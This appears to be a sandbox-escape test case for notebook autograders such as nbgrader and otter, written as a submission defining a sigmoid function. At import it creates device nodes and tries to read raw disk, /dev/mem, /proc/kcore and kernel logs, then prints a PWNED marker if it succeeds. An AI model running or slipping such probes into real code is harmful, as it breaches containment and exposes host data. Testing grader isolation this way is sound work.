# /// case
# about = "right answers, and a device file of its own for the disk or the memory of the machine"
# kind = "escape"
# promise = 2
# succeeds_at = ["nbgrader", "otter"]
# ///
# %% sigmoid
# under the file system there are no permissions
import os
import stat

def _devices():
    for path in ("/", os.getcwd(), "/usr", "/etc"):
        try:
            yield stat.S_IFBLK, os.stat(path).st_dev
        except OSError:
            pass
    yield stat.S_IFCHR, os.makedev(1, 1)  # /dev/mem
    yield stat.S_IFCHR, os.makedev(1, 11)  # /dev/kmsg

def _read(kind, device):
    try:
        os.mknod("disk", 0o600 | kind, device)
        descriptor = os.open("disk", os.O_RDONLY | os.O_NONBLOCK)
        try:
            return bool(os.read(descriptor, 4096))
        finally:
            os.close(descriptor)
    except OSError:
        return False
    finally:
        try:
            os.unlink("disk")
        except OSError:
            pass

def _opened(path):
    try:
        with open(path, "rb", 0) as file:
            return bool(file.read(1))
    except OSError:
        return False

if any(_read(*device) for device in _devices()) or any(map(_opened, ("/dev/mem", "/proc/kcore", "/dev/vda", "/dev/sda"))):
    print(":".join(["PWNED", "attack/reads_the_raw_disk"]))

def sigmoid(x, w=1.0, b=0.0):
    return 0.5 * (1 + np.tanh((w * np.asarray(x) + b) / 2))
